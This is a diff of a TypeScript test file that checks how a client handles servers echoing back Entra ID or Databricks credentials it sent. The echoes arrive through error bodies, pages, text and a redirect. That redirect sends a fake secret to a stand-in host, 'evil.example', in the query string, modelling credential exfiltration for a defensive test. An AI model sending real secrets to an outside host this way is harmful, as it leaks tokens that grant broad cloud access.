@@ -12,20 +12,20 @@ import { spellingsOf } from './spellings.js'
 const TENANT = '00000000-0000-4000-8000-00000000007e'
 const SECRET = 'fake~Entra.secret_8Q~x+/=%25'
 
-/** How somebody who was sent credentials shows them. */
+/** How a server may echo the credentials that it received. */
 const ECHOES: readonly (readonly [string, (sent: string) => Reply])[] = [
   [
-    'as Entra ID tells errors',
+    'in an error of Entra ID',
     (sent) => json(401, { error: 'invalid_client', error_description: `AADSTS1: ${sent}` }),
   ],
-  ['as Databricks tells errors', (sent) => apiError(401, 401, sent)],
+  ['in an error of Databricks', (sent) => apiError(401, 401, sent)],
   ['in a page', (sent) => html(502, `<pre>${sent}</pre>`)],
   ['as text', (sent) => text(500, sent)],
   ['in a redirect', (sent) => redirect(`https://evil.example/?${encodeURIComponent(sent)}`)],
 ]
 
-// A secret or a token of Entra ID opens everything that its application may do, in all of Azure.
-describe.each(['azure-client-secret', 'github-oidc-azure'])('signing in by %s', (authType) => {
+// A secret or a token of Entra ID gives all permissions of its application, in the whole of Azure.
+describe.each(['azure-client-secret', 'github-oidc-azure'])('authentication with %s', (authType) => {
   test.each(
     ECHOES.flatMap(
       ([how, answer]) =>
